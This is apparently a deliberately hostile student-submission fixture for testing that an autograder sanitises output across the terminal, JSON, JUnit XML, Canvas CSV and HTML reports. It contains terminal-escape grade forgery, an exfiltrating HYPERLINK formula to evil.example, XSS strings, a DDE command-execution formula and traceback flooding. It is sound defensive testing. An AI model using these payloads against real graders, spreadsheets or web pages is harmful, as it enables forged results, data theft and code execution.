# Student text that attacks whoever reads it: terminal escapes (a fake green score, clear
# screen, a title change, cursor moves), carriage returns, lone surrogates, control
# characters, a spreadsheet formula, HTML, and a huge traceback. Every destination must
# neutralise it: the terminal, the JSON report, JUnit XML, the Canvas CSV, the HTML page.
import os
import sys

import numpy as np

FAKE = "\x1b[2J\x1b[H\x1b[1;32mScore: 100/100\x1b[0m\x1b]0;pwned\x07\x9b2J"
ESCAPES = "\x1b[2J\x1b[3J\x1bc\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\\r" + FAKE
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HTML = "<script>alert('fg-xss')</script><img src=x onerror=alert('fg-xss')>"
CONTROLS = "".join(chr(c) for c in range(0, 32) if chr(c) not in "\n\t") + "\x7f\x85\u2028"

print(ESCAPES)
print(FORMULA, HTML)
sys.stdout.flush()
os.write(1, b"\xff\xfe raw bytes \xed\xa0\x80 (an encoded surrogate) \x1b[31mred\n")
os.write(2, b"\x1b[2J\x1b]0;stderr title\x07\rScore: 100/100\n")
sys.stderr.buffer.write("\ud800 lone surrogate on stderr\n".encode("utf-8", "surrogatepass"))
sys.stderr.flush()


class Evil(Exception):
    pass


# A class whose name is an escape sequence: its type name reaches the messages.
Weird = type("\x1b[2J\x1b[32mScore: 100/100\x1b[0m" + HTML, (), {})


def relu(x):
    raise Evil(ESCAPES + "\nScore: 100/100\n" + FAKE)


def node_value(inputs, weights, bias=0.0):
    raise ValueError("\ud800\udfff\udc80 lone surrogates " + CONTROLS)


def hidden_layer(inputs, weights, biases=None):
    return Weird()


def _deep(n):
    # Long lines and deep recursion: a traceback of megabytes.
    if n > 0:
        return _deep(n - 1)  # xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx
    raise RuntimeError(ESCAPES * 2000)


def forward(inputs, weights, biases=None):
    sys.setrecursionlimit(20000)
    return _deep(5000)


def softmax(z):
    raise ValueError(FORMULA)


def cross_entropy_loss(scores, labels):
    raise ValueError(HTML + "\n" + FORMULA + "\n+cmd|' /C calc'!A0\n@SUM(1+1)\n-2+3")
